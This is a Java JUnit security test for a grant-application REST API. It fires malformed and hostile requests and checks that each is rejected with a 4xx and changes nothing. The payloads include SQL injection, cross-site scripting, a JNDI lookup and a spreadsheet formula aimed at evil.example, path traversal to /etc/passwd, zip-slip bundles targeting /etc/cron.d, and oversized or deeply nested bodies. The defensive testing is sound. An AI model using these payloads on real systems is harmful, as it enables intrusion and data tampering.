package org.grantline.api;

import org.grantline.workflow.Lifecycle;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Malformed and hostile requests: broken JSON, huge bodies, deep nesting, wrong content types, injection
 * strings in every text field, path traversal, unknown ids, out-of-range numbers and dates. Every one is
 * answered 4xx (never 5xx), nothing is created or changed, and the application stays healthy. Run on H2
 * ({@link HostileInputApiIT}) and PostgreSQL ({@link HostileInputOnPostgresIT}).
 */
interface HostileInput {

    String APPLICANT = "demo-applicant";
    String CASEWORKER = "demo-caseworker";
    String AUDITOR = "demo-auditor";
    String DESIGNER = "demo-designer";
    String JSON = "application/json";
    String NO_BODY = null;
    List<String> TABLES = List.of("application", "submission", "decision_record", "task_completion", "award",
            "tranche", "application_condition", "flag", "audit_trail", "ruleset_activation");

    RunningApp app();

    /** One hostile request: who sends it, how, and the status it must get (0: any 4xx). */
    record Hostile(String what, String user, String method, String path, byte[] body, String contentType, int status) {
        Hostile(String what, String user, String method, String path, String body, String contentType, int status) {
            this(what, user, method, path, body == null ? null : body.getBytes(StandardCharsets.UTF_8), contentType, status);
        }
    }

    @Test
    default void hostileRequestsGetA4xxAndChangeNothing() throws IOException {
        Lifecycle.on("2014-02-10");
        // An application of the applicant's own, waiting for review: hostile milestones and task input aim at it.
        String good = Lifecycle.goodApplicationJson("hostile");
        String own = app().api.post(APPLICANT, "/api/applications", good).json().path("id").asText();
        String task = app().api.get(CASEWORKER, "/api/tasks?applicationId=" + own).json().get(0).path("id").asText();
        Map<String, Long> before = rowCounts();

        List<Hostile> requests = new ArrayList<>();
        String apps = "/api/applications";
        // broken JSON
        for (String broken : List.of("{", "{\"round\": \"OP-2014\",", "[1, 2", "nul", "{\"round\": \"OP-2014\"}}", "",
                "\"just a string\"", "123", "{\"round\": NaN}", "{'round': 'OP-2014'}", "{\"round\": \"OP-2014\" \"lead\": {}}")) {
            requests.add(new Hostile("broken JSON " + broken, APPLICANT, "POST", apps, broken, JSON, 400));
        }
        requests.add(new Hostile("invalid UTF-8", APPLICANT, "POST", apps,
                new byte[]{'{', '"', 'r', '"', ':', '"', (byte) 0xff, (byte) 0xfe, '"', '}'}, JSON, 400));
        // huge bodies
        requests.add(new Hostile("a 2 MB lead name", APPLICANT, "POST", apps,
                replaceName(good, "A".repeat(2_000_000)), JSON, 422));
        requests.add(new Hostile("3 MB of padding", APPLICANT, "POST", apps, good + " ".repeat(3_000_000), JSON, 0));
        requests.add(new Hostile("100,000 themes", APPLICANT, "POST", apps, good.replace(
                "\"themes\": [\"HEALTH_AND_WELLBEING\", \"OLDER_PEOPLE\"]",
                "\"themes\": [" + "\"HOUSING\",".repeat(100_000) + "\"HOUSING\"]"), JSON, 0));
        requests.add(new Hostile("a number of 5,000 digits", APPLICANT, "POST", apps, good.replace(
                "\"priorServiceDelivery\": true}", "\"priorServiceDelivery\": true, \"annualTurnover\": " + "9".repeat(5000) + "}"),
                JSON, 400));
        // deep nesting
        requests.add(new Hostile("themes nested 5,000 deep", APPLICANT, "POST", apps, good.replace(
                "\"themes\": [\"HEALTH_AND_WELLBEING\", \"OLDER_PEOPLE\"]",
                "\"themes\": " + "[".repeat(5000) + "]".repeat(5000)), JSON, 400));
        requests.add(new Hostile("objects nested 3,000 deep", APPLICANT, "POST", apps,
                "{\"lead\": ".repeat(3000) + "{}" + "}".repeat(3000), JSON, 400));
        // wrong content types
        requests.add(new Hostile("JSON sent as text/plain", APPLICANT, "POST", apps, good, "text/plain", 415));
        requests.add(new Hostile("XML", APPLICANT, "POST", apps, "<application/>", "application/xml", 415));
        requests.add(new Hostile("a form", APPLICANT, "POST", apps, "round=OP-2014", "application/x-www-form-urlencoded", 415));
        requests.add(new Hostile("multipart", APPLICANT, "POST", apps, "--x--", "multipart/form-data; boundary=x", 415));
        requests.add(new Hostile("no content type", APPLICANT, "POST", apps, good, null, 415));
        // injection strings in every text field of an application
        Map<String, String> injections = new LinkedHashMap<>();
        injections.put("\"name\": \"Lead ", "\"name\": \"Robert'); DROP TABLE application;-- ");
        injections.put("\"name\": \"Area ", "\"name\": \"<script>alert(1)</script> ");
        injections.put("\"district\": \"District ", "\"district\": \"' OR '1'='1 ");
        injections.put("\"name\": \"Council ", "\"name\": \"${jndi:ldap://evil.example/x} ");
        for (var injection : injections.entrySet()) {
            requests.add(new Hostile("injection " + injection.getValue(), APPLICANT, "POST", apps,
                    good.replace(injection.getKey(), injection.getValue()), JSON, 422));
        }
        requests.add(new Hostile("template in a partner name", APPLICANT, "POST", apps,
                good.replace("\"name\": \"Council ", "\"name\": \"{{7*7}} "), JSON, 422));
        requests.add(new Hostile("NUL in a name", APPLICANT, "POST", apps, replaceName(good, "Lead\\u0000Trust"), JSON, 422));
        requests.add(new Hostile("CRLF in a name", APPLICANT, "POST", apps, replaceName(good, "Lead\\r\\nSet-Cookie: x=y"), JSON, 422));
        requests.add(new Hostile("a spreadsheet formula as a name", APPLICANT, "POST", apps,
                replaceName(good, "=HYPERLINK(\\\"http://evil.example\\\")"), JSON, 422));
        requests.add(new Hostile("right-to-left override in a name", APPLICANT, "POST", apps, replaceName(good, "\\u202Eevil"), JSON, 422));
        requests.add(new Hostile("injection in the lead type", APPLICANT, "POST", apps,
                good.replace("\"type\": \"VCS_BODY\"", "\"type\": \"VCS_BODY'; --\""), JSON, 400));
        requests.add(new Hostile("path in a partner type", APPLICANT, "POST", apps,
                good.replace("\"type\": \"LOCAL_AUTHORITY\"", "\"type\": \"../../etc/passwd\""), JSON, 400));
        requests.add(new Hostile("markup in a theme", APPLICANT, "POST", apps,
                good.replace("\"OLDER_PEOPLE\"", "\"OLDER_PEOPLE<script>\""), JSON, 400));
        requests.add(new Hostile("injection in the round", APPLICANT, "POST", apps,
                good.replace("\"round\": \"OP-2014\"", "\"round\": \"OP-2014' OR '1'='1\""), JSON, 422));
        requests.add(new Hostile("path in the round", APPLICANT, "POST", apps,
                good.replace("\"round\": \"OP-2014\"", "\"round\": \"../../../etc/passwd\""), JSON, 422));
        // out-of-range numbers
        for (String turnover : List.of("-1", "1e308", "12.345", "\"lots\"", "true")) {
            requests.add(new Hostile("annual turnover " + turnover, APPLICANT, "POST", apps, good.replace(
                    "\"priorServiceDelivery\": true}", "\"priorServiceDelivery\": true, \"annualTurnover\": " + turnover + "}"),
                    JSON, 0));
        }
        requests.add(new Hostile("51 partners", APPLICANT, "POST", apps, good.replace("\"partners\": [",
                "\"partners\": [" + "{\"name\": \"P\", \"type\": \"OTHER\"},".repeat(51)), JSON, 422));
        // unknown ids, path traversal, hostile query parameters
        String unknown = UUID.randomUUID().toString();
        requests.add(new Hostile("traversal in an id", APPLICANT, "GET", apps + "/..%2F..%2Fetc%2Fpasswd", NO_BODY, null, 0));
        requests.add(new Hostile("injection in an id", APPLICANT, "GET", apps + "/%27%20OR%201%3D1%20--", NO_BODY, null, 404));
        requests.add(new Hostile("NUL in an id", AUDITOR, "GET", "/api/decisions/%00", NO_BODY, null, 0));
        requests.add(new Hostile("unknown application", APPLICANT, "GET", apps + "/" + unknown, NO_BODY, null, 404));
        requests.add(new Hostile("milestone for an unknown application", APPLICANT, "POST", apps + "/" + unknown
                + "/submissions/LOGIC_MODEL", "{\"title\": \"x\"}", JSON, 404));
        requests.add(new Hostile("traversal as a submission type", APPLICANT, "POST", apps + "/" + own
                + "/submissions/..%2F..%2Fx", "{}", JSON, 0));
        requests.add(new Hostile("injection in a round filter", CASEWORKER, "GET", apps + "?round=OP-2014%27%20OR%20%271%27%3D%271",
                NO_BODY, null, 422));
        requests.add(new Hostile("markup in a stage filter", CASEWORKER, "GET", apps + "?stage=%3Cscript%3E", NO_BODY, null, 422));
        requests.add(new Hostile("negative page", CASEWORKER, "GET", apps + "?page=-1", NO_BODY, null, 422));
        requests.add(new Hostile("huge page size", CASEWORKER, "GET", apps + "?size=100000", NO_BODY, null, 422));
        requests.add(new Hostile("page that is not a number", CASEWORKER, "GET", apps + "?page=abc", NO_BODY, null, 400));
        requests.add(new Hostile("replay against a path", AUDITOR, "GET", "/api/decisions/" + unknown + "/replay?version=..%2F..%2Fx",
                NO_BODY, null, 404));
        requests.add(new Hostile("replay from a non-date", AUDITOR, "GET", "/api/audit/replay?from=yesterday", NO_BODY, null, 400));
        requests.add(new Hostile("diff of a path", DESIGNER, "GET", "/api/designer/versions/..%2F..%2Fetc/diff/x", NO_BODY, null, 0));
        requests.add(new Hostile("garbage as a bundle", DESIGNER, "POST", "/api/designer/validation", "not a zip", "application/zip", 0));
        requests.add(new Hostile("a bundle that climbs out of its folder", DESIGNER, "POST", "/api/designer/deployments",
                zip("rules/../../evil.drl", "rule \"x\" when then end"), "application/zip", 0));
        requests.add(new Hostile("a bundle with an absolute path", DESIGNER, "POST", "/api/designer/deployments",
                zip("/etc/cron.d/evil", "* * * * * root true"), "application/zip", 0));
        // hostile milestone data for the applicant's own application (still in review)
        requests.add(new Hostile("markup in a document title", APPLICANT, "POST", apps + "/" + own + "/submissions/LOGIC_MODEL",
                "{\"title\": \"<img src=x onerror=alert(1)>\"}", JSON, 422));
        requests.add(new Hostile("template in a summary", APPLICANT, "POST", apps + "/" + own + "/submissions/DEVELOPMENT_STRATEGY",
                "{\"title\": \"Strategy\", \"summary\": \"#{7*7}\"}", JSON, 422));
        requests.add(new Hostile("a payment in the year 9999", APPLICANT, "POST", apps + "/" + own + "/submissions/MATCH_FUNDING_PAYMENT",
                "{\"provider\": \"Council\", \"amount\": 10, \"paidOn\": \"9999-12-31\"}", JSON, 422));
        requests.add(new Hostile("the 30th of February", APPLICANT, "POST", apps + "/" + own + "/submissions/MATCH_FUNDING_PAYMENT",
                "{\"provider\": \"Council\", \"amount\": 10, \"paidOn\": \"2014-02-30\"}", JSON, 400));
        requests.add(new Hostile("a date before the calendar", APPLICANT, "POST", apps + "/" + own + "/submissions/MATCH_FUNDING_PAYMENT",
                "{\"provider\": \"Council\", \"amount\": 10, \"paidOn\": \"-999999999-01-01\"}", JSON, 0));
        requests.add(new Hostile("10,000 plan sections", APPLICANT, "POST", apps + "/" + own + "/submissions/DRAFT_PLAN",
                "{\"sections\": [" + "\"PROPOSALS\",".repeat(10_000) + "\"PROPOSALS\"]}", JSON, 422));
        requests.add(new Hostile("markup in a withdrawal reason", APPLICANT, "POST", apps + "/" + own + "/withdrawal",
                "{\"reason\": \"<script>alert(1)</script>\"}", JSON, 422));
        // hostile task input from a caseworker
        String complete = "/api/tasks/" + task + "/complete";
        requests.add(new Hostile("markup in a review note", CASEWORKER, "POST", complete,
                "{\"variables\": {\"approved\": true, \"reviewNote\": \"<script>alert(1)</script>\"}}", JSON, 422));
        requests.add(new Hostile("a string for a yes/no field", CASEWORKER, "POST", complete,
                "{\"variables\": {\"approved\": \"yes\"}}", JSON, 422));
        requests.add(new Hostile("a variable that is not on the form", CASEWORKER, "POST", complete,
                "{\"variables\": {\"approved\": true, \"priorityScore\": 99, \"grant\": 1000000}}", JSON, 422));
        requests.add(new Hostile("an unknown task", CASEWORKER, "POST", "/api/tasks/" + unknown + "/complete",
                "{\"variables\": {\"approved\": true}}", JSON, 404));
        // methods the API does not have (refused by the deny-by-default security rule)
        requests.add(new Hostile("a method the API does not have", APPLICANT, "PUT", apps, good, JSON, 0));
        requests.add(new Hostile("deleting an application", CASEWORKER, "DELETE", apps + "/" + own, NO_BODY, null, 0));

        assertThat(requests).as("hostile requests sent").hasSizeGreaterThanOrEqualTo(50);
        List<String> wrong = new ArrayList<>();
        for (Hostile hostile : requests) {
            ApiClient.Response response = app().api.request(hostile.user(), hostile.method(), hostile.path(),
                    hostile.body(), hostile.contentType());
            boolean ok = hostile.status() == 0 ? response.status() >= 400 && response.status() < 500
                    : response.status() == hostile.status();
            if (!ok) {
                wrong.add(hostile.what() + ": expected " + (hostile.status() == 0 ? "4xx" : hostile.status()) + " but got "
                        + response.status() + " " + abbreviate(response.body()));
            }
        }
        assertThat(wrong).as("hostile requests answered otherwise").isEmpty();
        assertThat(rowCounts()).as("nothing created or recorded").isEqualTo(before);
        assertThat(app().api.get(APPLICANT, apps + "/" + own).json().path("stage").asText()).isEqualTo("REVIEW");
        assertThat(app().api.get(null, "/actuator/health").status()).as("still healthy").isEqualTo(200);
        assertThat(app().api.post(APPLICANT, apps, Lifecycle.goodApplicationJson("after")).status())
                .as("and still taking applications").isEqualTo(201);
    }

    private Map<String, Long> rowCounts() {
        Map<String, Long> counts = new LinkedHashMap<>();
        TABLES.forEach(table -> counts.put(table, app().count("select count(*) from " + table)));
        return counts;
    }

    private static String replaceName(String application, String name) {
        return application.replaceFirst("\"name\": \"Lead [^\"]+\"", java.util.regex.Matcher.quoteReplacement("\"name\": \"" + name + "\""));
    }

    private static String abbreviate(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "…" : body;
    }

    private static byte[] zip(String entry, String content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(entry));
            zip.write(content.getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        return bytes.toByteArray();
    }
}
